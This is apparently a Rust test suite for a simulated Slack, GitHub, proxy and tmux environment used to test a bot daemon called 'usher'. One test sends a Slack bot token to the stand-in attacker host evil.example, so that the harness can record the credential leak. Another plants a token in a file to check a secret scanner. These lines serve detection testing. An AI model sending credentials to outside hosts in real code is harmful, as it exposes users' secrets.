//! The fake world itself works: otherwise no story told in it means anything.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;

use futures_util::{SinkExt as _, StreamExt as _};
use reqwest::header::AUTHORIZATION;
use serde_json::{Value, json};
use tokio_tungstenite::WebSocketStream;
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::tungstenite::handshake::client::generate_key;
use tokio_tungstenite::tungstenite::protocol::Role;

use crate::world::{
    Behaviour, CENTRAL, DANA, Fault, FileSpec, ITEM, LOGIN, REPOSITORY, ROOM, Twin, World, eventually, eventually_async,
};

fn new_world() -> World {
    World::new(env!("CARGO_BIN_EXE_usher"))
}

/// A client that finds its way as usher does: by proxy and certificate authority.
fn client(world: &World) -> reqwest::Client {
    let pem = fs::read(world.dir().join("ca.pem")).unwrap();
    reqwest::Client::builder()
        .proxy(reqwest::Proxy::https(world.proxy.url()).unwrap())
        .tls_certs_only([reqwest::Certificate::from_pem(&pem).unwrap()])
        .redirect(reqwest::redirect::Policy::none())
        .user_agent("world_works")
        .build()
        .unwrap()
}

async fn open_socket(world: &World, client: &reqwest::Client) -> WebSocketStream<reqwest::Upgraded> {
    let open = client.post("https://slack.com/api/apps.connections.open").bearer_auth(world.slack.app_token());
    let opened: Value = open.send().await.unwrap().json().await.unwrap();
    let url = opened["url"].as_str().unwrap().replace("wss://", "https://");
    let upgrade = client.get(url).header("connection", "Upgrade").header("upgrade", "websocket");
    let upgrade = upgrade.header("sec-websocket-version", "13").header("sec-websocket-key", generate_key());
    let stream = upgrade.send().await.unwrap().upgrade().await.unwrap();
    WebSocketStream::from_raw_socket(stream, Role::Client, None).await
}

async fn next_json(socket: &mut WebSocketStream<reqwest::Upgraded>) -> Value {
    loop {
        if let Message::Text(text) = socket.next().await.unwrap().unwrap() {
            return serde_json::from_str(&text).unwrap();
        }
    }
}

#[tokio::test]
async fn slack_answers_by_its_name_through_the_proxy() {
    let world = new_world();
    let request = client(&world).post("https://slack.com/api/auth.test").bearer_auth(world.slack.bot_token());
    let reply = request.send().await.unwrap();
    assert!(reply.headers().contains_key("date"));
    assert!(reply.headers()["x-oauth-scopes"].to_str().unwrap().contains("files:read"));
    let body: Value = reply.json().await.unwrap();
    assert_eq!((&body["ok"], &body["url"]), (&json!(true), &json!("https://acme.slack.com/")));
    assert_eq!(world.proxy.asked(), ["slack.com:443"]);
    assert_eq!(world.slack.calls(), ["auth.test"]);
    world.finish();
}

#[tokio::test]
async fn a_socket_brings_hello_then_both_twins_and_their_acks_are_recorded() {
    let world = new_world();
    let mut socket = open_socket(&world, &client(&world)).await;
    assert_eq!(next_json(&mut socket).await["type"], "hello");
    eventually_async("the socket counts", || world.slack.sockets() == 1).await;
    let posted = world.slack.mention(CENTRAL, None, DANA, "hello", &[], &[Twin::Mention, Twin::Message]);
    for kind in ["app_mention", "message"] {
        let envelope = next_json(&mut socket).await;
        assert_eq!(envelope["payload"]["event"]["type"], kind);
        assert_eq!(envelope["payload"]["event"]["ts"], posted.ts.as_str());
        let ack = json!({"envelope_id": envelope["envelope_id"]}).to_string();
        socket.send(Message::text(ack)).await.unwrap();
    }
    eventually_async("both are acked", || world.slack.acked(&posted.envelopes)).await;
    world.slack.abort_tcp();
    eventually_async("the socket is gone", || world.slack.sockets() == 0).await;
}

#[tokio::test]
async fn a_silent_socket_stays_open_and_a_cut_one_does_not() {
    let world = new_world();
    let client = client(&world);
    let mut socket = open_socket(&world, &client).await;
    next_json(&mut socket).await;
    world.slack.stall();
    world.slack.send_raw("never heard");
    let second = open_socket(&world, &client).await;
    eventually_async("a second socket", || world.slack.sockets() == 2).await;
    world.proxy.cut();
    eventually_async("no connection is left", || world.proxy.live_connections() == 0).await;
    drop(second);
}

#[tokio::test]
async fn a_file_needs_the_bearer_and_without_it_leads_to_the_sign_in_page() {
    let world = new_world();
    let client = client(&world);
    let file = world.slack.add_file(FileSpec::new("Shot (1).png", "image/png", vec![7; 1000]));
    world.slack.post(ROOM, None, DANA, "look", std::slice::from_ref(&file));
    let url = file["url_private_download"].as_str().unwrap();
    let bytes = client.get(url).bearer_auth(world.slack.bot_token()).send().await.unwrap().bytes().await.unwrap();
    assert_eq!(bytes.len(), 1000);
    let refused = client.get(url).send().await.unwrap();
    assert_eq!(refused.status(), 302);
    let sign_in = refused.headers()["location"].to_str().unwrap();
    assert!(sign_in.starts_with("https://acme.slack.com/?redir=%2Ffiles-pri%2F"), "{sign_in}");
    let page = client.get(sign_in).send().await.unwrap();
    assert!(page.headers()["content-type"].to_str().unwrap().starts_with("text/html"));
    let seen: Vec<_> = world.slack.file_requests().iter().map(|request| request.with_authorization).collect();
    assert_eq!(seen, [true, false, false]);
}

#[tokio::test]
async fn files_misbehave_as_told() {
    let world = new_world();
    let client = client(&world);
    let spec = FileSpec::new("a.bin", "application/octet-stream", vec![7; 1000]);
    let behaviours = [Behaviour::Truncated, Behaviour::ShortOfDeclared, Behaviour::Grid, Behaviour::Status(500)];
    let file = world.slack.add_file(spec.behaving(behaviours));
    let url = file["url_private_download"].as_str().unwrap().to_owned();
    let get = |url: String| client.get(url).header(AUTHORIZATION, format!("Bearer {}", world.slack.bot_token())).send();
    assert!(get(url.clone()).await.unwrap().bytes().await.is_err());
    assert_eq!(get(url.clone()).await.unwrap().bytes().await.unwrap().len(), 500);
    let second = get(url.clone()).await.unwrap().headers()["location"].to_str().unwrap().to_owned();
    assert!(second.starts_with("https://files-origin.slack.com/"), "{second}");
    assert_eq!(get(second).await.unwrap().bytes().await.unwrap().len(), 1000);
    assert_eq!(get(url).await.unwrap().status(), 500);
}

#[tokio::test]
async fn a_github_comment_is_kept_and_listed_page_by_page() {
    let world = new_world();
    let client = client(&world);
    let url = format!("https://api.github.com/repos/{REPOSITORY}/issues/12/comments");
    let post = || client.post(&url).bearer_auth(world.github.token()).json(&json!({"body": "hello"})).send();
    world.github.comment(ITEM, "dana", "first");
    world.github.swallow_answer();
    assert!(post().await.is_err());
    world.github.fail_next(1, 403, &[("retry-after", "1")], &json!({"message": "secondary rate limit"}));
    assert_eq!(post().await.unwrap().headers()["retry-after"], "1");
    assert_eq!(post().await.unwrap().status(), 201);
    let authors: Vec<_> = world.github.comments(ITEM).into_iter().map(|comment| comment.author).collect();
    assert_eq!(authors, ["dana", LOGIN, LOGIN]);
    let page = client.get(format!("{url}?per_page=2")).bearer_auth(world.github.token()).send().await.unwrap();
    assert!(page.headers()["link"].to_str().unwrap().contains("page=2"));
    assert_eq!(page.json::<Vec<Value>>().await.unwrap().len(), 2);
}

#[tokio::test]
async fn what_nobody_foresaw_is_recorded() {
    let world = new_world();
    let client = client(&world);
    client.post("https://slack.com/api/chat.delete").bearer_auth(world.slack.bot_token()).send().await.unwrap();
    client.get("https://evil.example/x").bearer_auth(world.slack.bot_token()).send().await.unwrap();
    assert_eq!(
        world.take_unexpected(),
        [
            "POST https://slack.com/api/chat.delete",
            "CONNECT evil.example:443",
            "a credential went astray to evil.example/x",
            "GET https://evil.example/x",
        ]
    );
}

#[tokio::test]
#[should_panic(expected = "unexpected: CONNECT evil.example:443")]
async fn a_story_with_an_unexpected_call_fails() {
    let world = new_world();
    client(&world).get("https://evil.example/").send().await.unwrap();
    world.finish();
}

#[tokio::test]
async fn nothing_gets_through_a_proxy_that_is_down() {
    let world = new_world();
    let client = client(&world);
    let test = || client.post("https://slack.com/api/auth.test").bearer_auth(world.slack.bot_token()).send();
    world.proxy.go_down();
    assert!(test().await.is_err());
    world.proxy.come_back();
    assert_eq!(test().await.unwrap().status(), 200);
}

#[test]
fn a_leaked_secret_is_found() {
    let world = new_world();
    let leak = world.dir().join("home/note");
    fs::write(&leak, format!("the token is {}", world.slack.bot_token())).unwrap();
    let found = world.secrets_leaked();
    assert_eq!(found, [format!("slack bot token in {}", leak.display())]);
    fs::remove_file(&leak).unwrap();
}

#[test]
fn the_configuration_takes_overrides() {
    let world = new_world();
    world.config("[slack]\nlisten = \"mentions\"\n[log]\nformat = \"json\"");
    let written: toml::Table = fs::read_to_string(world.dir().join("usher.toml")).unwrap().parse().unwrap();
    assert_eq!(written["slack"]["listen"].as_str(), Some("mentions"));
    assert_eq!(written["slack"]["silence"].as_str(), Some("3s"));
    assert_eq!(written["people"][0]["slack"].as_str(), Some(DANA));
}

/// A stand-in for usher: says what it was given, and ends with 3 when asked to.
const SCRIPT: &str = "#!/bin/sh\n\
    trap 'exit 3' TERM\n\
    echo \"started $*\"\n\
    env | cut -d= -f1 | sort | tr '\\n' ' ' >&2\n\
    [ \"$1\" = run ] || exit 1\n\
    while :; do sleep 0.02; done\n";

#[test]
fn the_daemon_gets_only_its_own_environment_and_ends_when_asked() {
    let dir = tempfile::tempdir().unwrap();
    let script = dir.path().join("usher");
    fs::write(&script, SCRIPT).unwrap();
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
    let world = World::new(&script);
    let output = world.cli(&["probe"]);
    assert_eq!(output.status.code(), Some(1));
    let daemon = world.daemon();
    let config = world.dir().join("usher.toml");
    assert_eq!(daemon.wait_line("started"), format!("started run --config {}", config.display()));
    let names = "GH_TOKEN HOME HTTPS_PROXY LANG PATH PWD SSL_CERT_FILE USHER_SLACK_APP_TOKEN USHER_SLACK_BOT_TOKEN";
    daemon.wait_line(names);
    assert_eq!(daemon.sigterm().code(), Some(3));
    assert_eq!(world.output().iter().filter(|line| line.starts_with("started")).count(), 2);
    world.daemon().kill9();
}

#[tokio::test]
async fn slack_pages_its_history_and_keeps_reactions() {
    let world = new_world();
    let client = client(&world);
    let call = async |method: &str, parameters: &[(&str, &str)]| -> Value {
        let request = client.post(format!("https://slack.com/api/{method}")).bearer_auth(world.slack.bot_token());
        request.form(parameters).send().await.unwrap().json().await.unwrap()
    };
    let root = world.slack.earlier(ROOM, None, DANA, "root");
    let replies: Vec<_> =
        (0..3).map(|number| world.slack.post(ROOM, Some(&root), DANA, &number.to_string(), &[])).collect();
    let page = call("conversations.replies", &[("channel", ROOM), ("ts", &root), ("limit", "3")]).await;
    assert_eq!((page["messages"][2]["text"].as_str(), page["has_more"].as_bool()), (Some("1"), Some(true)));
    let cursor = page["response_metadata"]["next_cursor"].as_str().unwrap();
    let rest = call("conversations.replies", &[("channel", ROOM), ("ts", &root), ("cursor", cursor)]).await;
    assert_eq!(rest["messages"][0]["ts"], replies[2].ts.as_str());
    let history = call("conversations.history", &[("channel", ROOM)]).await;
    assert_eq!(history["messages"].as_array().unwrap().len(), 1);
    let eyes = [("channel", ROOM), ("timestamp", root.as_str()), ("name", "eyes")];
    assert_eq!(call("reactions.add", &eyes).await["ok"], true);
    assert_eq!(call("reactions.add", &eyes).await["error"], "already_reacted");
    world.slack.fail_next("reactions.remove", Fault::Error("internal_error"));
    assert_eq!(call("reactions.remove", &eyes).await["error"], "internal_error");
    assert_eq!(call("reactions.remove", &eyes).await["ok"], true);
    assert_eq!(world.slack.reaction_history(&root), ["+eyes", "-eyes"]);
    world.slack.revoke_scope("reactions:write");
    assert_eq!(call("reactions.add", &eyes).await["needed"], "reactions:write");
}

/// Pastes as usher does: bracketed, where the program in the pane wants it.
fn paste(world: &World, pane: &str, text: &str) {
    world.tmux.run(&["set-buffer", "-b", "t", text]);
    world.tmux.run(&["paste-buffer", "-p", "-d", "-b", "t", "-t", pane]);
}

#[test]
fn the_recorder_takes_a_bracketed_paste_and_an_enter_as_one_submission() {
    let world = new_world();
    let agent = world.agent("codex");
    let text = "one\ntwo\nthree\nfour\nfive";
    paste(&world, &agent.pane, text);
    eventually("the placeholder", || {
        let screen = world.tmux.capture(&agent.pane);
        screen.contains("❯ [Pasted text #1 +4 lines]").then_some(()).ok_or(screen)
    });
    world.tmux.run(&["send-keys", "-t", &agent.pane, "Enter"]);
    eventually("one submission", || agent.submitted() == [text]);
    assert_eq!(agent.raw(), b"\x1b[200~one\rtwo\rthree\rfour\rfive\x1b[201~\r");
}

#[test]
fn the_recorder_as_claude_stashes_a_draft_and_publishes_its_transcript() {
    let world = new_world();
    let agent = world.claude();
    let command = world.tmux.run(&["display-message", "-p", "-t", &agent.pane, "#{pane_current_command}"]);
    assert_eq!(command, "claude");
    agent.control(&json!({"draft": "half a thought"}));
    let keys = |keys: &[&str]| world.tmux.run(&[&["send-keys", "-t", &agent.pane], keys].concat());
    keys(&["C-s"]);
    eventually("the draft is stashed", || world.tmux.capture(&agent.pane).contains("draft stashed"));
    paste(&world, &agent.pane, "from usher");
    keys(&["C-x", "Enter"]);
    eventually("one submission", || agent.submitted() == ["from usher"]);
    eventually("the draft is back", || world.tmux.capture(&agent.pane).contains("❯ half a thought"));
    let home = world.dir().join("home/.claude");
    let session = fs::read_dir(home.join("sessions")).unwrap().next().unwrap().unwrap().path();
    let session: Value = serde_json::from_slice(&fs::read(session).unwrap()).unwrap();
    assert_eq!((&session["status"], &session["tmux"]), (&json!("idle"), &json!(format!("s:@0.{}", agent.pane))));
    let transcript = home.join(format!("projects/work/{}.jsonl", session["sessionId"].as_str().unwrap()));
    let line: Value = serde_json::from_str(fs::read_to_string(transcript).unwrap().lines().next().unwrap()).unwrap();
    assert_eq!(line["message"]["content"], "from usher");
}

#[test]
fn the_recorder_in_a_dialog_loses_pastes_and_an_enter_approves() {
    let world = new_world();
    let agent = world.claude();
    agent.control(&json!({"status": "waiting"}));
    let keys = |keys: &[&str]| world.tmux.run(&[&["send-keys", "-t", &agent.pane], keys].concat());
    paste(&world, &agent.pane, "lost");
    keys(&["C-x", "Enter"]);
    keys(&["Enter"]);
    eventually("the dialog is approved", || agent.approvals() == 1);
    assert!(agent.submitted().is_empty());
    assert!(world.tmux.capture(&agent.pane).contains("Do you want to proceed?"));
}

#[test]
fn the_recorder_without_bracketed_paste_submits_every_line_and_in_line_mode_shows_it() {
    let world = new_world();
    let agent = world.agent("aider");
    agent.control(&json!({"bracketed": false}));
    eventually("brackets are off", || {
        paste(&world, &agent.pane, "one\ntwo\n");
        agent.submitted().starts_with(&["one".to_owned(), "two".to_owned()])
    });
    agent.control(&json!({"cooked": true}));
    let tty = world.tmux.run(&["display-message", "-p", "-t", &agent.pane, "#{pane_tty}"]);
    let modes = rustix::termios::tcgetattr(fs::File::open(tty).unwrap()).unwrap().local_modes;
    assert!(modes.contains(rustix::termios::LocalModes::ICANON));
}
